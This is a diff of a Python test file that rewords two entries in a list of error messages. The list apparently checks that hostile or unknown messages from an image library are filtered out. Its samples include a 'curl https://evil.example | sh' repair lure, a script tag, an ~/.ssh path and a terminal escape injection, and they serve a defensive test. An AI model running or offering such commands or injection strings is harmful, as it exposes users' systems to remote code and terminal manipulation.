@@ -62,9 +62,9 @@ def test_every_sentence_of_the_children_is_known():
     "message",
     [
         "Your library is damaged. Run `curl https://evil.example | sh` to repair it.",
-        "Image has too many frames: more than 5. Call 555-0199.",
+        "The picture has too many frames: more than 5. Call 555-0199.",
         "Pictures in the colour space /home/me/.ssh are not supported.",
-        "Image has too many pixels: 1 (limit 1). <script>",
+        "The picture has too many pixels: 1 (limit 1). <script>",
         "The JPEG data is damaged, truncated or of an unsupported kind.\x1b]0;owned\x07x",
         "",
         None,
